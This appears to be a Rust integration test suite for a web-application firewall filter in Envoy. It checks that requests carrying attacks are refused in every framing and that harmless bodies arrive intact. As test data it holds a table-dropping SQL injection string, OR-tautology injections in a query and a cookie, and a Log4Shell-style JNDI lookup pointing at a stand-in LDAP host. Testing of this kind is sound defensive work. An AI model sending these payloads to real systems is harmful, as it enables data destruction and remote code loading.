//! Payloads in a real Envoy: what is an attack never reaches the service, what is none arrives whole.
//!
//! Every place and framing: heads, bodies in pieces over both protocols, multipart, trailers, a body that is longer than is read.
//! Not covered here: how well attacks are told from harmless text (`make eval`), waiting as such (`waiting.rs`).

use super::{code, echoed, enforcing, Gate, Shared};
use portcullis_lab::client::Request;
use serde_json::{json, Value};
use std::sync::Arc;

const ATTACK: &str = "x'); DROP TABLE orders; --";

fn config(inspect: &Value) -> Value {
    enforcing(json!({"request": {"body_read_max": "8KiB"}, "inspect": inspect}))
}

fn gate() -> Arc<Gate> {
    static GATE: Shared = Shared::by_tests(2);
    GATE.get(|| Gate::start_with(&config(&json!({})), |bootstrap| bootstrap.concurrency(2)))
}

#[test]
fn no_piece_of_an_attack_reaches_the_service() {
    // One of its own, since the requests that arrive are counted.
    let gate = Gate::start_with(&config(&json!({})), |bootstrap| bootstrap.concurrency(2));
    for (protocol, client) in gate.both() {
        let before = gate.upstream.hits();
        let bad = Request::post("/echo").json(&json!({"padding": "harmless ".repeat(200), "note": ATTACK}));
        for request in [
            bad.clone(),
            bad.clone().chunked(1),
            bad.clone().chunked(700),
            bad.chunked(100).trailer("x-checksum", "42"),
        ] {
            let response = client.send(request).unwrap();
            assert_eq!((response.status, code(&response).as_str()), (403, "risk_denied"), "{protocol}");
        }
        let form = "--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n";
        let form = format!("{form}{ATTACK}\r\n--b--\r\n");
        let multipart =
            Request::post("/echo").header("content-type", "multipart/form-data; boundary=b").body(form);
        assert_eq!(client.send(multipart).unwrap().status, 403, "{protocol}");
        assert_eq!(gate.upstream.hits(), before, "{protocol}");
    }
}

#[test]
fn heads_are_looked_at() {
    let gate = gate();
    for (protocol, client) in gate.both() {
        let search = "/echo?q=17%27%20OR%20%27a%27=%27a";
        for request in [
            Request::get(search),
            Request::get("/echo").header("x-api-version", "${jndi:ldap://e.example/a}"),
            Request::get("/echo").header("cookie", "a=b; id=17' OR 'a'='a"),
        ] {
            assert_eq!(client.send(request).unwrap().status, 403, "{protocol}");
        }
        assert_eq!(
            client.send(Request::get("/echo?q=O%27Reilly%20%26%20Sons")).unwrap().status,
            200,
            "{protocol}"
        );
    }
}

#[test]
fn what_is_harmless_arrives_whole() {
    let gate = gate();
    for (protocol, client) in gate.both() {
        for notes in [1, 100, 5000] {
            let whole = Request::post("/echo").json(&json!({"notes": vec!["It's fine; thanks (really)!"; notes]}));
            let length = whole.body.len();
            for request in [whole.clone(), whole.chunked(1000).trailer("x-checksum", "42")] {
                let answer = client.send(request).unwrap().json().unwrap();
                assert_eq!(answer["body_length"], json!(length), "{protocol}");
                assert!(echoed(&answer, "headers", "x-portcullis-risk").is_empty());
            }
        }
    }
}

/// What is longer than is read passes uninspected by default, and is refused where the policy says so.
#[test]
fn a_body_that_is_too_long_follows_the_policy() {
    let strict = Gate::start(&config(&json!({"on_error": {"uninspected": "deny"}})));
    let long = Request::post("/echo").json(&json!({"notes": "x".repeat(20_000)}));
    for (protocol, client) in strict.both() {
        let response = client.send(long.clone()).unwrap();
        assert_eq!((response.status, code(&response).as_str()), (503, "payload_uninspected"), "{protocol}");
        let short = Request::post("/echo").json(&json!({"notes": "short"}));
        assert_eq!(client.send(short).unwrap().status, 200, "{protocol}");
    }
}
